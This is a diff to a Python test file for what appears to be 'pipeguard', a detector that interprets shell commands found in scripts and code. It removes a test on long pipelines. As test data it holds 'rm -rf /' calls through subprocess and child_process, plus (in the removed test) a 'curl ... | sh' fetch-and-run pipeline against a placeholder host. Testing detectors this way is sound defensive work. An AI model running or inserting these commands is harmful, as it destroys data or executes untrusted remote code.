@@ -1,7 +1,6 @@
 """The effects of a script, a list of words or a program, one a line."""
 
 from pipeguard.detect.commands import interpret
-from pipeguard.detect.commands.nested_commands import MAX_LINE
 from pipeguard.detect.commands.shell_command import MAX_STEPS, ScriptBudget
 from tests.detect.cases import read_cases
 from tests.each import each
@@ -38,13 +37,6 @@ def test_a_command_whose_letters_are_together_is_made_of_nothing(text: str) -> N
 def test_code_that_calls_a_shell() -> None:
     assert "$ rm -r /" in interpret.code_lines("subprocess.run(['rm', '-rf', '/'])")
     assert "$ rm -r /" in interpret.code_lines("child_process.execSync('rm -rf /')")
-
-
-def test_a_pipeline_that_is_too_long_for_a_line_has_its_commands_side_by_side_in_another() -> None:
-    fillers = "| cat " * MAX_LINE
-    lines = interpret.command_lines(f"curl -s https://x.example/a {fillers}| sh")
-    assert max(map(len, lines)) <= MAX_LINE
-    assert [line for line in lines if line.endswith("| $ sh")]
 
 
 def test_a_script_that_costs_more_than_is_left_is_cut_and_says_so() -> None:
